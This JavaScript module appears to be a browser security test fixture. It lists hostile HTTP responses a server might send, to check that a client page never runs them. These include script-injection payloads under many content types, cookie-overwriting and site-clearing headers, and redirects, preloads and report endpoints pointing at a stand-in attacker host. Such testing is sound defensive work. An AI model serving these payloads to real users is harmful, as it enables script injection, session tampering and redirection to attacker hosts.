/** What a Core answers over HTTP, for whoever opens its addresses in a tab or asks for them by script. */
import { EVIL, run } from "./evil.mjs";

const page = (m) => `<!doctype html><title>evil</title><script>${run(m)};document.cookie="evil=${m}"</script>${m}`;
const drawing = (m) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(m)}"><script>${run(m)}</script></svg>`;
const script = (m) => `${run(m)}; self.evil = 1;`;
const json = (m) => JSON.stringify({ html: page(m) });

/** Name, header lines, body. */
export const ANSWERS = [
  ["a page", "Content-Type: text/html", page],
  [
    "a page of XHTML",
    "Content-Type: application/xhtml+xml",
    (m) => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run(m)}</script></html>`,
  ],
  ["a drawing", "Content-Type: image/svg+xml", drawing],
  ["XML with a style", "Content-Type: text/xml", (m) => `<?xml-stylesheet type="text/xsl" href="${EVIL}/${m}"?><x/>`],
  ["a script", "Content-Type: text/javascript", script],
  ["a text", "Content-Type: text/plain", page],
  ["a document", "Content-Type: application/pdf", (m) => `%PDF-1.4 /JS (${run(m)})`],
  ["an archive of a page", "Content-Type: multipart/related; boundary=x", page],
  [
    "parts that replace each other",
    "Content-Type: multipart/x-mixed-replace; boundary=x",
    (m) => `--x\r\nContent-Type: text/html\r\n\r\n${page(m)}\r\n--x--`,
  ],
  ["a manifest", "Content-Type: application/manifest+json", json],
  ["a page under the name of data", "Content-Type: application/json", page],
  ["a page without a type", "X-Evil: 1", page],
  ["a page under the name of a picture", "Content-Type: image/png", page],
  ["a drawing under the name of a picture", "Content-Type: image/gif", drawing],
  ["a page under the name of bytes", "Content-Type: application/octet-stream", page],
  ["a page under the name of events", "Content-Type: text/event-stream", page],
  ["a page under the name of a problem", "Content-Type: application/problem+json", page],
  [
    "data in another encoding",
    "Content-Type: application/json; charset=utf-7",
    (m) => `+ADw-script+AD4-${run(m)}+ADw-/script+AD4-`,
  ],
  ["a script that is data", "Content-Type: application/json", script],
  ["a script that is bytes", "Content-Type: application/octet-stream", script],
  [
    "a cookie",
    "Content-Type: application/json\r\nSet-Cookie: evil=1; Path=/\r\nSet-Cookie: __Host-condrix=evil; Path=/; Secure",
    json,
  ],
  ["an order to forget all", 'Content-Type: application/json\r\nClear-Site-Data: "*"', json],
  ["a refresh", `Content-Type: application/json\r\nRefresh: 0; url=${EVIL}/`, json],
  ["a place to go", `Content-Type: application/json\r\nLocation: ${EVIL}/\r\nContent-Location: ${EVIL}/`, json],
  [
    "a hint to load",
    `Content-Type: application/json\r\nLink: <${EVIL}/x.js>; rel=preload; as=script, <${EVIL}>; rel=preconnect`,
    json,
  ],
  [
    "a wider policy",
    "Content-Type: application/json\r\nContent-Security-Policy: script-src * 'unsafe-inline'\r\nX-Content-Type-Options: sniff",
    page,
  ],
  ["a scope for a worker", "Content-Type: application/json\r\nService-Worker-Allowed: /", script],
  [
    "somewhere to report",
    `Content-Type: application/json\r\nReporting-Endpoints: csp="${EVIL}"\r\nNEL: {"report_to":"csp","max_age":9}\r\nReport-To: {"endpoints":[{"url":"${EVIL}"}],"max_age":9}`,
    json,
  ],
  [
    "an alternative host",
    'Content-Type: application/json\r\nAlt-Svc: h3="evil.example:443"\r\nOrigin-Agent-Cluster: ?0',
    json,
  ],
  [
    "leave for everybody",
    "Content-Type: application/json\r\nAccess-Control-Allow-Origin: *\r\nCross-Origin-Resource-Policy: cross-origin\r\nCross-Origin-Opener-Policy: unsafe-none",
    json,
  ],
  ["a file to keep", `Content-Type: application/json\r\nContent-Disposition: attachment; filename="evil.html"`, json],
  [
    "rules of speculation",
    `Content-Type: application/json\r\nSpeculation-Rules: "${EVIL}/rules.json"\r\nSourceMap: ${EVIL}/m`,
    json,
  ],
  ["a demand for a password", 'Content-Type: application/json\r\nWWW-Authenticate: Basic realm="evil"', json],
];

/** Statuses with which something else would happen. */
export const STATUSES = [
  ["301 Moved", `Location: ${EVIL}/moved\r\nContent-Type: application/json`],
  ["302 Found", `Location: javascript:canary()\r\nContent-Type: application/json`],
  ["307 Again", `Location: /api/v1/me\r\nContent-Type: application/json`],
  ["401 Who", 'WWW-Authenticate: Basic realm="evil"\r\nContent-Type: application/problem+json'],
  ["407 Proxy", 'Proxy-Authenticate: Basic realm="evil"\r\nContent-Type: application/json'],
  ["205 Reset", "Content-Type: application/json"],
];

/** Ways in which a page of ours could take an answer for more than data, if script of a Core's ever ran in it. */
export const USES = ["a script", "a module", "a style", "a worker"];

/** Tries one of them, within the page. What became of it. */
export function use([what, address]) {
  return new Promise((done) => {
    const element = (name, more) => {
      const it = Object.assign(document.createElement(name), more);
      it.onload = () => done("taken");
      it.onerror = () => done("refused");
      document.head.append(it);
    };
    if (what === "a script") element("script", { src: address });
    if (what === "a module") element("script", { type: "module", src: address });
    if (what === "a style") element("link", { rel: "stylesheet", href: address });
    if (what === "a worker") {
      const worker = new Worker(address);
      worker.onmessage = () => done("taken");
      worker.onerror = () => done("refused");
    }
  });
}
